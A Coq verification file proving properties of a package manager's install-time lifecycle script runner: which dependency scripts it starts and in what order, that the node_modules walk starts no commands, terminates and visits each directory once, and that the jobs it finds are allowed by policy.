(* ===== verification/LifecycleSafe.v ===== *)
(** * What runs during an installation ([lifecycle/runner/])

    The commands of [Lifecycle] in the order in which they are started: which they
    are, that the walk before them starts none and ends, and that it looks at every
    directory once. *)
From S2P Require Import Prelude.
From S2P Require Import BTree.
From S2P Require Import Text.
From S2P Require Import Errors.
From S2P Require Import Types.
From S2P Require Import Paths.
From S2P Require Import Crates.
From S2P Require Import Semver.
From S2P Require Import Peers.
From S2P Require Import Config.
From S2P Require Import Store.
From S2P Require Import Scripts.
From S2P Require Import Linker.
From S2P Require Import Sharing.
From S2P Require Import Residency.
From S2P Require Import World.
From S2P Require Import LinkFs.
From S2P Require Import Node.
From S2P Require Import NodeInstall.
From S2P Require Import StoreFs.
From S2P Require Import StoreTree.
From S2P Require Import StoreSafe.
From S2P Require Import SideEffects.
From S2P Require Import Lifecycle.

(** ** The log of commands *)

(** The commands started so far; nothing but [run_command] starts one. *)
Class CommandLog (W : Type) `{LifecycleWorld W} := {
  commands : W -> list Command;
  log_run c w : commands (run_command c w).2 = commands w ++ [c];
  log_create_dir_all p w : commands (fs_create_dir_all p w).2 = commands w;
  log_remove_file p w : commands (fs_remove_file p w).2 = commands w;
  log_remove_dir_all p w : commands (fs_remove_dir_all p w).2 = commands w;
  log_rename p q w : commands (fs_rename p q w).2 = commands w;
  log_symlink p q w : commands (fs_symlink p q w).2 = commands w;
  log_reflink p q w : commands (fs_reflink p q w).2 = commands w;
  log_copy p q w : commands (fs_copy p q w).2 = commands w;
  log_set_mode p mode w : commands (fs_set_mode p mode w).2 = commands w;
  log_memory m w : commands (put_link_memory m w) = commands w;
  log_disk d w : commands (put_disk d w) = commands w;
  log_unpack bytes p w : commands (archive_unpack bytes p w).2 = commands w;
  log_client w : commands (remote_client w).2 = commands w;
  log_get url auth w : commands (remote_get url auth w).2 = commands w;
  log_put url auth body w : commands (remote_put url auth body w).2 = commands w;
  log_temp_dir prefix w : commands (temp_dir prefix w).2 = commands w;
  log_thread_pool n w : commands (thread_pool n w).2 = commands w;
}.

Section log.
Context `{CommandLog W}.

Definition same_log (w w' : W) : Prop := commands w' = commands w.
#[global] Instance same_log_preorder : PreOrder same_log.
Proof. split; [by intros w|]. unfold same_log. by intros w1 w2 w3 -> ->. Qed.

(** An operation that starts nothing. *)
Definition silent {A} (op : W -> A * W) : Prop := forall w, commands (op w).2 = commands w.

Lemma silent_keeps {A} (op : W -> A * W) w a w' : silent op -> op w = (a, w') -> same_log w w'.
Proof. intros Hs Hop. unfold same_log. by rewrite <-(Hs w), Hop. Qed.
Lemma silent_op op : silent op -> op_keeps same_log op.
Proof. intros Hs w r w'. by apply silent_keeps. Qed.
Lemma silent_eff_of {A} (op : W -> A * W) : silent op -> keeps same_log (eff_of op).
Proof. intros Hs w r w'. unfold eff_of. destruct (op w) eqn:E. intros [= _ <-]. by eapply silent_keeps. Qed.
Lemma silent_io_error error op : silent op -> keeps same_log (io_error error op).
Proof. intros. by apply keeps_io_error, silent_op. Qed.
Lemma silent_io_ignore op : silent op -> keeps same_log (io_ignore op).
Proof. intros. by apply keeps_io_ignore, silent_op. Qed.
Lemma silent_io_try op : silent op -> keeps same_log (io_try op).
Proof. intros. by apply keeps_io_try, silent_op. Qed.
Lemma silent_eff {A} (m : Eff W A) : silent m -> keeps same_log m.
Proof. intros Hs w r w'. by apply silent_keeps. Qed.
Lemma silent_write_output output : keeps same_log (write_output output).
Proof. apply silent_eff. intros w. unfold write_output. destruct (fs_write _ _ _). apply log_disk. Qed.
Lemma silent_record p from to ok : keeps same_log (record p from to ok).
Proof. apply silent_eff. intros w. apply log_memory. Qed.
End log.
Create HintDb silent discriminated.
#[export] Hint Resolve log_create_dir_all log_remove_file log_remove_dir_all log_rename log_symlink log_reflink log_copy
  log_set_mode log_unpack log_client log_get log_put log_temp_dir log_thread_pool : silent.
#[export] Hint Extern 1 (silent _) => intros ?; repeat case_match; auto with silent : silent.
#[export] Hint Extern 1 (keeps same_log (eff_of _)) => apply silent_eff_of; auto with silent : effects.
#[export] Hint Extern 1 (keeps same_log (io_error _ _)) => apply silent_io_error; auto with silent : effects.
#[export] Hint Extern 1 (keeps same_log (io_write _ _)) => apply silent_io_error; auto with silent : effects.
#[export] Hint Extern 1 (keeps same_log (io_ignore _)) => apply silent_io_ignore; auto with silent : effects.
#[export] Hint Extern 1 (keeps same_log (io_try _)) => apply silent_io_try; auto with silent : effects.
#[export] Hint Extern 1 (keeps same_log (create_dir_all _)) => apply silent_io_error; auto with silent : effects.
#[export] Hint Resolve silent_write_output silent_record : effects.

(** ** What starts nothing *)
Section silence.
Context `{SemverCrate} `{Target} `{JsonCrate} `{DigestCrates} `{TarBuilder} `{CommandLog W}.

Lemma silent_ensure_parent p : keeps same_log (ensure_parent_dir p).
Proof. unfold ensure_parent_dir. keep. Qed.
Lemma silent_clone_or_copy from to : keeps same_log (clone_or_copy_file from to).
Proof. unfold clone_or_copy_file, try_primitive, primitive_op. keep. Qed.
Hint Resolve silent_ensure_parent silent_clone_or_copy : effects.

Lemma silent_remove_bin path : keeps same_log (remove_existing_bin_entry path).
Proof. unfold remove_existing_bin_entry. keep. Qed.
Lemma silent_ensure_executable path : keeps same_log (ensure_executable_bits path).
Proof. unfold ensure_executable_bits. keep. Qed.
Hint Resolve silent_remove_bin silent_ensure_executable : effects.
Lemma silent_link_known_bins pkg_path bin_root name bin : keeps same_log (link_known_bins pkg_path bin_root name bin).
Proof. unfold link_known_bins, link_bin_entries, create_bin_file, write_bin_link. keep. Qed.

Lemma silent_remove_path path : keeps same_log (remove_path path).
Proof. unfold remove_path. keep. Qed.
Hint Resolve silent_remove_path : effects.
Lemma silent_copy_dir_inner base fuel : forall current destination, keeps same_log (copy_dir_inner base fuel current destination).
Proof.
  induction fuel as [|fuel IH]; intros current destination; cbn; [keep|]. unfold create_symlink_like.
  keep; apply IH.
Qed.
Hint Resolve silent_copy_dir_inner : effects.
Lemma silent_copy_dir source destination : keeps same_log (copy_dir source destination).
Proof. unfold copy_dir. keep. Qed.
Hint Resolve silent_copy_dir : effects.
Lemma silent_write_marker dir hash : keeps same_log (write_marker dir hash).
Proof. unfold write_marker. keep. Qed.
Lemma silent_remote_client : keeps same_log remote_client.
Proof. apply silent_eff. intros w. apply log_client. Qed.
Hint Resolve silent_write_marker silent_remote_client : effects.
Lemma silent_fill_slot self parent dir : keeps same_log (fill_slot self parent dir).
Proof. unfold fill_slot. keep. Qed.
Lemma silent_unpack bytes dir : keeps same_log (unpack_into_dir bytes dir).
Proof. unfold unpack_into_dir. keep. Qed.
Lemma silent_upload self key dir : keeps same_log (try_upload self key dir).
Proof. unfold try_upload. keep. Qed.
Hint Resolve silent_fill_slot silent_unpack silent_upload : effects.
Lemma silent_save self dir : keeps same_log (save self dir).
Proof. unfold save, push_remote. keep. Qed.
Lemma silent_restore self dir : keeps same_log (restore_if_available self dir).
Proof. unfold restore_if_available, try_restore, save_local_from. keep. Qed.
Lemma silent_drop dir : keeps same_log (drop_temp_dir dir).
Proof. unfold drop_temp_dir. keep. Qed.
Hint Resolve silent_link_known_bins silent_drop : effects.
Lemma silent_self_bin root name bin : keeps same_log (prepare_self_bin_dir root name bin).
Proof. unfold prepare_self_bin_dir. keep. Qed.
Lemma silent_pool n : keeps same_log (thread_pool n).
Proof. apply silent_eff. intros w. apply log_thread_pool. Qed.
End silence.
#[export] Hint Resolve silent_save silent_restore silent_drop silent_self_bin silent_pool : effects.

(** ** What starts a list of commands *)
Definition plain (c : Command) : string * string := (cmd_dir c, cmd_script c).

Section planned.
Context `{CommandLog W}.

(** It starts these commands in this order, and stops among them only if it fails. *)
Definition runs (l : list (string * string)) {A} (m : Eff W A) : Prop := forall w r w', m w = (r, w') ->
  exists cs, commands w' = commands w ++ cs /\ plain <$> cs `prefix_of` l /\ (is_ok r = true -> plain <$> cs = l).

Lemma runs_silent {A} (m : Eff W A) : keeps same_log m -> runs [] m.
Proof. intros Hm w r w' Hr. exists []. rewrite app_nil_r. split_and!; [by eapply Hm|done|done]. Qed.

Lemma runs_bind l1 l2 {A B} (m : Eff W A) (k : A -> Eff W B) : runs l1 m -> (forall a, runs l2 (k a)) -> runs (l1 ++ l2) (m ≫= k).
Proof.
  intros Hm Hk w r w' [(e & Hr & ->)|(a & w0 & Hr & Hr')]%eff_bind_inv.
  - apply Hm in Hr as (cs & Hcs & Hp & _). exists cs. split_and!; [done|by apply prefix_app_r|done].
  - apply Hm in Hr as (cs & Hcs & _ & Hl). apply Hk in Hr' as (cs' & Hcs' & Hp' & Hl').
    exists (cs ++ cs'). rewrite fmap_app, (Hl eq_refl), Hcs', Hcs, (assoc_L (++)).
    split_and!; [done|by apply prefix_app|]. intros Hok. by rewrite Hl'.
Qed.
Lemma runs_bind_silent l {A B} (m : Eff W A) (k : A -> Eff W B) : keeps same_log m -> (forall a, runs l (k a)) -> runs l (m ≫= k).
Proof. intros Hm Hk. change l with ([] ++ l). by apply runs_bind; [apply runs_silent|]. Qed.
Lemma runs_then_silent l {A B} (m : Eff W A) (k : A -> Eff W B) : runs l m -> (forall a, keeps same_log (k a)) -> runs l (m ≫= k).
Proof. intros Hm Hk. rewrite <-(app_nil_r l). apply runs_bind; [done|]. intros a. by apply runs_silent. Qed.

Lemma runs_fold {A B} (plan : A -> list (string * string)) (f : B -> A -> Eff W B) l :
  (forall acc a, runs (plan a) (f acc a)) -> forall acc, runs (concat (plan <$> l)) (eff_fold f acc l).
Proof.
  intros Hf. induction l as [|a l IH]; intros acc; cbn [eff_fold]; [by apply runs_silent; keep|].
  cbn. by apply runs_bind.
Qed.

(** What runs in the end, whatever happened, and hands on what happened. *)
Lemma runs_finally l {A} (m : Eff W A) (last : Eff W unit) :
  runs l m -> keeps same_log last -> runs l (r ← attempt m; _ ← last; lift r).
Proof.
  intros Hm Hlast w r w'. unfold attempt, mbind, eff_bind at 1. destruct (m w) as [rm w0] eqn:E.
  apply Hm in E as (cs & Hcs & Hp & Hl). intros [(e & Hr & ->)|([] & w1 & Hr & Hr')]%eff_bind_inv;
    apply Hlast in Hr; unfold same_log in Hr; exists cs.
  - rewrite Hr. by split_and!.
  - injection Hr' as <- <-. rewrite Hr. by split_and!.
Qed.
End planned.

(** ** The scripts of a package, and those of the jobs *)
Definition script_plan (root : string) (scripts : gmap string json) (script_names : list string) : list (string * string) :=
  (fun e => (root, e.2)) <$> present_scripts scripts script_names.
Definition job_plan (job : DepScriptJob) : list (string * string) :=
  script_plan (job_pkg_root job) (job_scripts job) DEPENDENCY_LIFECYCLE_SCRIPT_NAMES.
Definition jobs_plan `{HashIter} (jobs : list DepScriptJob) : list (string * string) :=
  concat (job_plan <$> concat (topological_chunks jobs)).

Lemma script_plan_cons root scripts key names : script_plan root scripts (key :: names) = script_plan root scripts [key] ++ script_plan root scripts names.
Proof. unfold script_plan. rewrite <-fmap_app. f_equal. cbn. by repeat case_match. Qed.
Lemma script_plan_concat root scripts names : script_plan root scripts names = concat ((fun key => script_plan root scripts [key]) <$> names).
Proof. induction names as [|key names IH]; [done|]. by rewrite script_plan_cons, IH. Qed.

(** Whatever the names, only the jobs that were given are in the chunks. *)
Section members.
Context `{HashIter} (jobs : list DepScriptJob).

Definition from_jobs (st : KahnState) : Prop := forall n job, k_by_name st !! n = Some job -> job ∈ jobs.

Lemma pop_ready_jobs ready : forall st chunk next st' chunk' next',
  foldl pop_ready (st, chunk, next) ready = (st', chunk', next') ->
  from_jobs st -> (forall job, job ∈ chunk -> job ∈ jobs) -> from_jobs st' /\ forall job, job ∈ chunk' -> job ∈ jobs.
Proof.
  induction ready as [|name ready IH]; intros st chunk next st' chunk' next'; cbn; [by intros [= <- <- <-]|].
  intros Hf Hst Hch. destruct (match k_dependents st !! name with Some _ => _ | None => _ end) as [deg next1].
  apply IH in Hf; [done| |].
  - intros n job. cbn. rewrite lookup_delete_Some. intros [_ Hj]. by eapply Hst.
  - destruct (k_by_name st !! name) as [j|] eqn:E; [|done].
    intros job [Hj| ->%list_elem_of_singleton]%elem_of_app; [by apply Hch|by eapply Hst].
Qed.

Lemma chunk_loop_jobs fuel : forall st ready chunks st' chunks',
  chunk_loop fuel st ready chunks = Some (st', chunks') ->
  from_jobs st -> (forall job, job ∈ concat chunks -> job ∈ jobs) -> from_jobs st' /\ forall job, job ∈ concat chunks' -> job ∈ jobs.
Proof.
  induction fuel as [|fuel IH]; intros st [|name ready] chunks st' chunks'; try (by intros [= <- <-]).
  cbn [chunk_loop]. destruct (foldl pop_ready (st, [], []) (name :: ready)) as [[st1 chunk] next] eqn:E. intros Hl Hst Hch.
  apply pop_ready_jobs in E as [Hst1 Hchunk]; [|done|by intros job []%not_elem_of_nil].
  apply IH in Hl; [done|done|]. case_decide; [done|].
  intros job. rewrite concat_app, elem_of_app. cbn. rewrite app_nil_r. intros [?|?]; auto.
Qed.

Lemma chunks_are_jobs job : job ∈ concat (topological_chunks jobs) -> job ∈ jobs.
Proof.
  assert (Hinit : from_jobs (initial_state jobs)).
  { intros n j. unfold initial_state. destruct (foldl _ _ _). cbn.
    by intros (j' & [= -> ->] & Hj)%collect_lookup_Some%list_elem_of_fmap. }
  unfold topological_chunks. destruct (chunk_loop _ _ _ _) as [[st chunks]|] eqn:E; [|by intros []%not_elem_of_nil].
  apply chunk_loop_jobs in E as [Hst Hch]; [|done|by intros j []%not_elem_of_nil].
  case_decide; [by apply Hch|]. rewrite concat_app, elem_of_app. cbn. rewrite app_nil_r. intros [Hj|Hj]; [by apply Hch|].
  apply list_elem_of_fmap in Hj as ([n j] & -> & Hj). rewrite hash_iter_perm, elem_of_map_to_list in Hj. by eapply Hst.
Qed.
End members.

Lemma plans_of_chunks (chunks : list (list DepScriptJob)) :
  concat (job_plan <$> concat chunks) = concat ((fun chunk => concat (job_plan <$> chunk)) <$> chunks).
Proof. induction chunks as [|chunk chunks IH]; [done|]. cbn. by rewrite fmap_app, concat_app, IH. Qed.

Section running.
Context `{SemverCrate} `{Target} `{JsonCrate} `{DigestCrates} `{TarBuilder} `{HashIter} `{CommandLog W}.

Lemma runs_command c : runs [plain c] (eff_of (run_command c)).
Proof.
  intros w r w'. unfold eff_of. destruct (run_command c w) as [status w1] eqn:E. intros [= <- <-].
  exists [c]. split_and!; [|done|done]. by rewrite <-log_run, E.
Qed.

Lemma runs_script name version root scripts key self_bin_dir :
  runs (script_plan root scripts [key]) (run_script_if_present name version root scripts key self_bin_dir).
Proof.
  unfold run_script_if_present, script_plan, present_scripts. cbn.
  destruct (scripts !! key) as [[]|]; try (apply runs_silent; keep). destruct (is_empty _); [apply runs_silent; keep|].
  apply runs_bind_silent; [keep|intros w]. apply runs_bind_silent; [keep|intros path].
  apply runs_then_silent; [apply (runs_command {| cmd_dir := root |})|]. intros status. keep.
Qed.

Lemma runs_present name version root scripts bin names :
  runs (script_plan root scripts names) (run_present_scripts name version root scripts bin names).
Proof.
  unfold run_present_scripts. apply runs_bind_silent; [keep|intros self_bin]. apply runs_finally; [|keep].
  rewrite script_plan_concat. apply runs_fold. intros ran key. apply runs_then_silent; [apply runs_script|]. intros. keep.
Qed.

Lemma runs_job job : runs (job_plan job) (run_single_job job).
Proof. unfold run_single_job. apply runs_then_silent; [apply runs_present|]. intros ran. keep. Qed.

Lemma runs_jobs jobs : runs (jobs_plan jobs) (run_jobs jobs).
Proof.
  assert (Hin : forall job, job ∈ concat (topological_chunks jobs) -> job ∈ jobs) by apply chunks_are_jobs.
  unfold run_jobs, jobs_plan. destruct jobs as [|job jobs].
  { assert (concat (topological_chunks []) = []) as ->; [|apply runs_silent; keep].
    destruct (concat _) as [|job l]; [done|]. by destruct (not_elem_of_nil job); apply Hin; left. }
  apply runs_bind_silent; [keep|intros w]. apply runs_bind_silent; [keep|intros _].
  rewrite plans_of_chunks. apply runs_fold. intros _ chunk. apply runs_fold. intros _ j. apply runs_job.
Qed.
End running.

(** ** The walk *)
Section walking.
Context `{SemverCrate} `{Target} `{JsonCrate} `{DigestCrates} `{TarBuilder} `{LifecycleWorld W}
  (config : SnpmConfig) (workspace : option Workspace).

(** More directories are visited, and the list of jobs gets longer. *)
Definition grows (st : Walk) (m : Eff W Walk) : Prop := forall w st' w', m w = (Ok st', w') -> wk_visited_dirs st ⊆ wk_visited_dirs st'.

Lemma grows_ret st st' : wk_visited_dirs st ⊆ wk_visited_dirs st' -> grows st (mret st').
Proof. intros Hs w s w' [= <- <-]. done. Qed.
Lemma grows_bind st {A} (m : Eff W A) k : (forall a, grows st (k a)) -> grows st (m ≫= k).
Proof. intros Hk w st' w' (a & w0 & _ & Hr)%eff_bind_Ok. by eapply Hk. Qed.
Lemma grows_trans st m k : grows st m -> (forall st', grows st' (k st')) -> grows st (m ≫= k).
Proof. intros Hm Hk w st' w' (st1 & w0 & Hr & Hr')%eff_bind_Ok. transitivity (wk_visited_dirs st1); [by eapply Hm|by eapply Hk]. Qed.
Lemma grows_fold {A} (f : Walk -> A -> Eff W Walk) l : (forall st a, grows st (f st a)) -> forall st, grows st (eff_fold f st l).
Proof. intros Hf. induction l as [|a l IH]; intros st; cbn; [by apply grows_ret|by apply grows_trans]. Qed.
Lemma grows_visit dir st m : grows (visit dir st) m -> grows st m.
Proof. intros Hm w st' w' Hr. apply Hm in Hr. cbn in Hr. set_solver. Qed.

Lemma inspect_grows root manifest st : grows st (inspect config workspace root manifest st).
Proof.
  unfold inspect. apply grows_bind. intros w. apply grows_bind. intros value.
  repeat (case_match; try by apply grows_ret); repeat (apply grows_bind; intros ?); repeat (case_match; try by apply grows_ret).
  all: apply grows_ret; unfold push_blocked; by case_decide.
Qed.

Lemma entry_grows walk scan_dir st entry :
  (forall dir st, grows st (walk dir st)) -> grows st (walk_entry config workspace walk scan_dir st entry).
Proof.
  intros Hwalk. unfold walk_entry. apply grows_bind. intros [name kind]. apply grows_bind. intros w.
  case_match; [by apply grows_ret|]. case_match; [|done]. case_match; [by apply grows_ret|].
  apply grows_visit with (dir := canonical w (path_push scan_dir name)), grows_trans; [apply inspect_grows|].
  intros st'. apply grows_bind. intros w'. case_match; [done|by apply grows_ret].
Qed.
Lemma walk_grows fuel : forall dir st, grows st (walk_node_modules config workspace fuel dir st).
Proof.
  induction fuel as [|fuel IH]; intros dir st; [by intros w st' w'|].
  cbn [walk_node_modules]. apply grows_bind. intros w. case_match; [by apply grows_ret|]. apply grows_bind. intros entries.
  apply (grows_visit (canonical w dir)), grows_fold. intros st' entry. by apply entry_grows.
Qed.

(** Where there are finitely many directories, restoring packages makes no other. *)
Section ending.
Context (D : gset (list (nat * string))) (I : W -> Prop).

Record finite_directories : Prop := {
  fd_canonical w path : I w -> is_dir (view w) path = true ->
    exists d, canonicalize_path w path = Ok d /\ path_key d ∈ D /\ is_dir (view w) d = true;
  fd_restore self dir w r w' : I w -> restore_if_available self dir w = (r, w') -> I w';
}.
Context (Hfin : finite_directories).

Definition unvisited (st : Walk) : nat := size (D ∖ wk_visited_dirs st).

Lemma unvisited_mono st st' : wk_visited_dirs st ⊆ wk_visited_dirs st' -> unvisited st' <= unvisited st.
Proof. intros Hs. unfold unvisited. apply subseteq_size. set_solver. Qed.
Lemma unvisited_visit dir st : path_key dir ∈ D -> visited dir st = false -> unvisited (visit dir st) < unvisited st.
Proof.
  unfold visited, unvisited. rewrite bool_decide_eq_false. intros Hd Hnot. apply subset_size. cbn. set_solver.
Qed.

(** It stays where directories are finitely many. *)
Definition stays {A} (m : Eff W A) : Prop := forall w r w', I w -> m w = (r, w') -> I w'.
Lemma stays_ret {A} (a : A) : stays (mret a).
Proof. by intros w r w' HI [= _ <-]. Qed.
Lemma stays_lift {A} (r : Result A) : stays (lift r).
Proof. by intros w r' w' HI [= _ <-]. Qed.
Lemma stays_world : stays world.
Proof. by intros w r' w' HI [= _ <-]. Qed.
Lemma stays_attempt {A} (m : Eff W A) : stays m -> stays (attempt m).
Proof. intros Hm w r w' HI. unfold attempt. destruct (m w) eqn:E. intros [= _ <-]. by eapply Hm. Qed.
Lemma stays_bind {A B} (m : Eff W A) (k : A -> Eff W B) : stays m -> (forall a, stays (k a)) -> stays (m ≫= k).
Proof. intros Hm Hk w r w' HI [(e & Hr & ->)|(a & w0 & Hr & Hr')]%eff_bind_inv; [by eapply Hm|]. eapply Hk, Hr'. by eapply Hm. Qed.
Lemma stays_fold {A B} (f : B -> A -> Eff W B) l : (forall b a, stays (f b a)) -> forall b, stays (eff_fold f b l).
Proof. intros Hf. induction l as [|a l IH]; intros b; [apply stays_ret|by apply stays_bind]. Qed.
Hint Resolve stays_ret stays_lift stays_world stays_attempt : core.

Lemma inspect_stays root manifest st : stays (inspect config workspace root manifest st).
Proof.
  unfold inspect. apply stays_bind; [done|intros w0]. apply stays_bind; [done|intros value].
  repeat (case_match; try by apply stays_ret). apply stays_bind; [done|intros entry]. apply stays_bind.
  - apply stays_attempt. destruct entry as [entry|]; [|done]. intros w r w'. apply (fd_restore Hfin).
  - intros [[]|]; apply stays_ret.
Qed.
Lemma entry_stays walk scan_dir st entry :
  (forall dir st, stays (walk dir st)) -> stays (walk_entry config workspace walk scan_dir st entry).
Proof.
  intros Hwalk. unfold walk_entry. apply stays_bind; [done|intros [name kind]]. apply stays_bind; [done|intros w].
  case_match; [done|]. case_match; [|done]. case_match; [done|].
  apply stays_bind; [apply inspect_stays|intros st']. apply stays_bind; [done|intros w']. by case_match.
Qed.
Lemma walk_stays fuel : forall dir st, stays (walk_node_modules config workspace fuel dir st).
Proof.
  induction fuel as [|fuel IH]; intros dir st; [apply stays_lift|].
  cbn [walk_node_modules]. apply stays_bind; [done|intros w]. case_match; [done|]. apply stays_bind; [done|intros entries].
  apply stays_fold. intros st' entry. by apply entry_stays.
Qed.

(** Two walks that have fuel enough are the same walk. *)
Lemma bind_agree {A B} (m : Eff W A) (k k' : A -> Eff W B) w :
  (forall a w', m w = (Ok a, w') -> k a w' = k' a w') -> (m ≫= k) w = (m ≫= k') w.
Proof. unfold mbind, eff_bind. destruct (m w) as [[a|e] w'] eqn:E; [|done]. intros Hk. by apply Hk. Qed.
Lemma fold_agree {A} (f f' : Walk -> A -> Eff W Walk) n :
  (forall st a w, I w -> unvisited st < n -> f st a w = f' st a w) ->
  (forall st a, grows st (f st a)) -> (forall st a, stays (f st a)) ->
  forall l st w, I w -> unvisited st < n -> eff_fold f st l w = eff_fold f' st l w.
Proof.
  intros Hf Hg Hs. induction l as [|a l IH]; intros st w HI Hst; [done|]. cbn [eff_fold].
  unfold mbind, eff_bind. rewrite <-(Hf st a w HI Hst). destruct (f st a w) as [[st'|e] w'] eqn:E; [|done].
  apply IH; [by eapply Hs|]. apply Hg, unvisited_mono in E. lia.
Qed.

Lemma entry_agree n (f f' : string -> Walk -> Eff W Walk) scan_dir :
  (forall dir st w, I w -> is_dir (view w) dir = true -> unvisited st < n -> f dir st w = f' dir st w) ->
  forall st entry w, I w -> unvisited st < n ->
  walk_entry config workspace f scan_dir st entry w = walk_entry config workspace f' scan_dir st entry w.
Proof.
  intros Hf st entry w HI Hst. unfold walk_entry. apply bind_agree. intros [name kind] w0 [= _ <-].
  apply bind_agree. intros w1 w2 [= <- <-].
  destruct (is_dir (view w) (path_push scan_dir name)) eqn:Hd; [|done]. cbn [negb orb]. destruct (name == ".bin"); [done|].
  destruct (fd_canonical Hfin _ _ HI Hd) as (d & Hc & HD & Hdd).
  assert (canonical w (path_push scan_dir name) = d) as -> by (unfold canonical; by rewrite Hc).
  destruct (is_file _ _); [|by apply Hf]. destruct (visited d st) eqn:Hv; [done|].
  apply bind_agree. intros st' w' Hi. apply bind_agree. intros w3 w4 [= <- <-].
  destruct (is_dir (view w') (path_push d "node_modules")) eqn:Hn; [|done]. apply Hf; [by eapply inspect_stays|done|].
  pose proof (inspect_grows _ _ _ _ _ _ Hi) as Hg%unvisited_mono. pose proof (unvisited_visit d st HD Hv). lia.
Qed.

Lemma walk_agree n : forall m dir st w, I w -> is_dir (view w) dir = true -> unvisited st < n -> unvisited st < m ->
  walk_node_modules config workspace n dir st w = walk_node_modules config workspace m dir st w.
Proof.
  induction n as [|n IH]; intros [|m] dir st w HI Hd Hn Hm; [lia..|]. cbn [walk_node_modules].
  destruct (fd_canonical Hfin _ _ HI Hd) as (d & Hc & HD & _). apply bind_agree. intros w1 w2 [= <- <-].
  assert (canonical w dir = d) as -> by (unfold canonical; by rewrite Hc). destruct (visited d st) eqn:Hv; [done|].
  apply bind_agree. intros entries w3 [= _ <-].
  pose proof (unvisited_visit d st HD Hv). apply (fold_agree _ _ (n `min` m)); [| | |done|lia].
  - intros st' entry w' HI' Hst. apply (entry_agree (n `min` m)); [|done|done]. intros. apply IH; [done|done|lia..].
  - intros st' entry. apply entry_grows, walk_grows.
  - intros st' entry. apply entry_stays, walk_stays.
Qed.
End ending.
End walking.

(** ** What is decided about a package *)
#[local] Arguments has_lifecycle_scripts : simpl never.
#[local] Arguments is_dep_script_allowed : simpl never.

Definition add_inspection (st : Walk) (inspection : Inspection) : Walk :=
  match inspection with
  | Ignored | Cached => st
  | BlockedPackage name => push_blocked name st
  | Job job => push_job job st
  end.

Section decided.
Context `{SemverCrate} `{Target} `{JsonCrate} `{DigestCrates} `{TarBuilder} `{LifecycleWorld W}
  (config : SnpmConfig) (workspace : option Workspace).

(** The inspection of a package in the world is the decision of
    [Scripts.inspect_package] about the manifest that is read, given the handle
    that [new_cache_entry] makes and what restoring it comes to; a manifest
    that cannot be read and a handle that cannot be made are failures. *)
Theorem inspect_refines root manifest st w :
  (inspect config workspace root manifest st w).1 =
    value ← read_manifest (view w) manifest;
    inspection ← inspect_package config workspace root (fun name version => new_cache_entry w config name version root)
                   (fun entry => result_ok (restore_if_available entry root w).1) value;
    Ok (add_inspection st inspection).
Proof.
  unfold inspect, inspect_package, world, lift, attempt, mbind, eff_bind. destruct (read_manifest _ _) as [value|e]; [|done]. cbn.
  destruct (option_bind _ _ _ (package_name value)) as [name|]; [|done]. destruct (package_scripts value) as [scripts|]; [|done].
  destruct (negb (has_lifecycle_scripts scripts)); [done|]. destruct (negb (is_dep_script_allowed _ _ _)); [done|].
  destruct (option_bind _ _ _ (package_version value)) as [version|]; [|done]. cbn.
  destruct (new_cache_entry _ _ _ _ _) as [entry|e]; [|done]. cbn.
  destruct (restore_if_available entry root w) as [[[]|e] w']; reflexivity.
Qed.
End decided.

(** ** The jobs that are found *)
Section found.
Context `{SemverCrate} `{Target} `{JsonCrate} `{DigestCrates} `{TarBuilder} `{CommandLog W}
  (config : SnpmConfig) (workspace : option Workspace) (log : list Command).

(** The manifest was read before anything was started, and the policy allows the package. *)
Definition allowed_job (job : DepScriptJob) : Prop :=
  is_dep_script_allowed config workspace (job_name job) = true /\
  exists w value, commands w = log /\ read_manifest (view w) (path_push (job_pkg_root job) "package.json") = Ok value /\
    package_name value = Some (job_name job) /\ package_scripts value = Some (job_scripts job).

Definition roots (st : Walk) : list (list (nat * string)) := (fun job => path_key (job_pkg_root job)) <$> wk_jobs st.

Record good_walk (st : Walk) : Prop := {
  gw_allowed : Forall allowed_job (wk_jobs st);
  gw_once : NoDup (roots st);
  gw_visited root : root ∈ roots st -> root ∈ wk_visited_dirs st;
}.

Lemma good_empty : good_walk empty_walk.
Proof. split; [done|apply NoDup_nil_2|by intros root []%not_elem_of_nil]. Qed.
Lemma good_visit dir st : good_walk st -> good_walk (visit dir st).
Proof. intros [Ha Ho Hv]. split; [done|done|]. intros root Hr%Hv. cbn. set_solver. Qed.
Lemma good_blocked name st : good_walk st -> good_walk (push_blocked name st).
Proof. unfold push_blocked. case_decide; [done|]. by intros [Ha Ho Hv]. Qed.
Lemma good_push job st :
  allowed_job job -> good_walk st -> visited (job_pkg_root job) st = false ->
  good_walk (push_job job (visit (job_pkg_root job) st)).
Proof.
  unfold visited. rewrite bool_decide_eq_false. intros Hj [Ha Ho Hv] Hnot. split; cbn.
  - by apply Forall_app; split; [|apply Forall_singleton].
  - unfold roots. cbn. rewrite fmap_app. apply NoDup_app. split_and!; [done| |by apply NoDup_singleton].
    intros root Hr ->%list_elem_of_singleton. by apply Hnot, Hv.
  - intros root. unfold roots. cbn. rewrite fmap_app, elem_of_app. cbn.
    rewrite list_elem_of_singleton. intros [Hr%Hv| ->]; set_solver.
Qed.

(** It starts nothing, and what it returns is good. *)
Definition finds (m : Eff W Walk) : Prop := forall w r w', commands w = log -> m w = (r, w') ->
  commands w' = log /\ forall st, r = Ok st -> good_walk st.

Lemma finds_ret st : good_walk st -> finds (mret st).
Proof. intros Hst w r w' Hw [= <- <-]. split; [done|]. by intros st' [= <-]. Qed.
Lemma finds_fail e : finds (lift (Err e)).
Proof. intros w r w' Hw [= <- <-]. by split. Qed.
Lemma finds_bind {A} (m : Eff W A) k : keeps same_log m -> (forall a, finds (k a)) -> finds (m ≫= k).
Proof.
  intros Hm Hk w r w' Hw [(e & Hr & ->)|(a & w0 & Hr & Hr')]%eff_bind_inv; apply Hm in Hr; unfold same_log in Hr.
  - split; [congruence|done].
  - eapply Hk, Hr'. congruence.
Qed.
Lemma finds_lift_bind {A} (r : Result A) k : (forall a, r = Ok a -> finds (k a)) -> finds (lift r ≫= k).
Proof. intros Hk. destruct r as [a|e]; [by apply Hk|apply finds_fail]. Qed.
Lemma finds_world k : (forall w, commands w = log -> finds (k w)) -> finds (world ≫= k).
Proof. intros Hk w r w' Hw. by apply Hk. Qed.
Lemma finds_then m k : finds m -> (forall st, good_walk st -> finds (k st)) -> finds (m ≫= k).
Proof.
  intros Hm Hk w r w' Hw [(e & Hr & ->)|(st & w0 & Hr & Hr')]%eff_bind_inv; apply Hm in Hr as [Hr Hst]; try done.
  eapply Hk, Hr'; [by apply Hst|done].
Qed.
